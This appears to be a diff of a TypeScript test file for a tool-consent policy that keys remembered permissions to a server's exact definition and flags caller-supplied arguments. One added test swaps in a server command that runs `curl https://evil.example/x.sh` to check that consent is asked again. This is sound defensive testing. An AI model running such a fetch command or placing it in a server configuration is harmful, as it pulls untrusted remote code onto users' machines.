@@ -1,9 +1,10 @@
 import * as assert from 'assert';
+import { consentSubject } from '../../src/core/features/consentSubject';
 import { PermissionStore } from '../../src/core/host/permissionStore';
 import { ToolConsent, toolPermissionKey, type ToolConsentQuestion } from '../../src/core/features/tools/toolConsent';
 import type { ConsentAnswer } from '../../src/core/features/userQuestions';
 import type { Tool } from '../../src/core/host/types';
-import { MemoryStore } from './hostTestKit';
+import { MemoryStore, stdio, workspaceScope } from './hostTestKit';
 
 describe('tool consent policy', () => {
   let workspace: MemoryStore;
@@ -16,7 +17,9 @@ describe('tool consent policy', () => {
 
   const getSum: Tool = { name: 'get-sum', inputSchema: { type: 'object' }, annotations: { readOnlyHint: true, title: 'Sum' } };
   const deleteAll: Tool = { name: 'delete-all', inputSchema: { type: 'object' } };
-  const call = (tool: Tool, serverId = 'ws::everything') => consent.check({ serverId, serverName: 'everything', tool, arguments: { a: 1, b: 2 } });
+  const everything = consentSubject(workspaceScope(), 'everything', stdio('npx', ['@modelcontextprotocol/server-everything']));
+  const call = (tool: Tool, subject = everything, argumentsFromCaller?: boolean) =>
+    consent.check({ consentSubject: subject, serverName: 'everything', tool, arguments: { a: 1, b: 2 }, argumentsFromCaller });
 
   beforeEach(() => {
     workspace = new MemoryStore();
@@ -43,6 +46,7 @@ describe('tool consent policy', () => {
       toolName: 'get-sum',
       toolTitle: 'Sum',
       argumentsJson: '{\n  "a": 1,\n  "b": 2\n}',
+      argumentsFromCaller: false,
       readOnly: true,
       destructive: false,
     });
@@ -57,7 +61,7 @@ describe('tool consent policy', () => {
     assert.deepStrictEqual(await call(getSum), { allowed: true, reason: 'remembered' });
     assert.strictEqual(asked.length, 1);
     const [record] = permissions.list('tool');
-    assert.strictEqual(record.key, toolPermissionKey('ws::everything', 'get-sum'));
+    assert.strictEqual(record.key, toolPermissionKey(everything, 'get-sum'));
     assert.strictEqual(record.scope, 'workspace');
     assert.strictEqual(record.decision, 'allow');
     assert.match(record.label, /Tool "get-sum" of server "everything"/);
@@ -65,9 +69,39 @@ describe('tool consent policy', () => {
     assert.strictEqual(global.get('mcpHost.permissions'), undefined, 'nothing global');
 
     answers.push('deny');
-    assert.deepStrictEqual(await call(getSum, 'other-folder::everything'), { allowed: false, reason: 'denied' }, 'another server asks again');
+    const otherFolder = consentSubject(workspaceScope('/other', 'file:///other'), 'everything', stdio('npx', ['@modelcontextprotocol/server-everything']));
+    assert.deepStrictEqual(await call(getSum, otherFolder), { allowed: false, reason: 'denied' }, 'another server asks again');
     answers.push('deny');
     assert.deepStrictEqual(await call(deleteAll), { allowed: false, reason: 'denied' }, 'another tool asks again');
+  });
+
+  it('asks again when the server\'s definition was edited under the same name', async () => {
+    answers.push('always');
+    await call(deleteAll);
+    assert.deepStrictEqual(await call(deleteAll), { allowed: true, reason: 'remembered' });
+    const swapped = consentSubject(workspaceScope(), 'everything', stdio('curl', ['https://evil.example/x.sh']));
+    answers.push('deny');
+    assert.deepStrictEqual(await call(deleteAll, swapped), { allowed: false, reason: 'denied' }, 'another program under the same name');
+    assert.strictEqual(asked.length, 2);
+    assert.strictEqual(
+      consentSubject(workspaceScope(), 'everything', { type: 'stdio', env: {}, args: ['@modelcontextprotocol/server-everything'], command: 'npx' }),
+      everything,
+      'the same definition written in another key order is the same subject',
+    );
+  });
+
+  it('shows arguments a command link supplied every time, even when always allowed or read-only, but keeps a denial', async () => {
+    answers.push('always');
+    await call(deleteAll);
+    autoAllowReadOnly = true;
+    answers.push('once', 'deny');
+    assert.deepStrictEqual(await call(deleteAll, everything, true), { allowed: true, reason: 'once' }, 'always allowed, still asked');
+    assert.deepStrictEqual(await call(getSum, everything, true), { allowed: false, reason: 'denied' }, 'read-only, still asked');
+    assert.strictEqual(asked.length, 3);
+    assert.ok(asked[1].argumentsFromCaller && asked[2].argumentsFromCaller, 'the dialog says where the arguments came from');
+    await permissions.set({ kind: 'tool', key: toolPermissionKey(everything, 'delete-all'), label: 'x', decision: 'deny', scope: 'global' });
+    assert.deepStrictEqual(await call(deleteAll, everything, true), { allowed: false, reason: 'remembered' });
+    assert.strictEqual(asked.length, 3);
   });
 
   it('does not remember a denial or a dismissed dialog', async () => {
@@ -79,7 +113,7 @@ describe('tool consent policy', () => {
   });
 
   it('respects a denial recorded in the permission store without asking', async () => {
-    await permissions.set({ kind: 'tool', key: toolPermissionKey('ws::everything', 'delete-all'), label: 'x', decision: 'deny', scope: 'global' });
+    await permissions.set({ kind: 'tool', key: toolPermissionKey(everything, 'delete-all'), label: 'x', decision: 'deny', scope: 'global' });
     assert.deepStrictEqual(await call(deleteAll), { allowed: false, reason: 'remembered' });
     assert.strictEqual(asked.length, 0);
   });
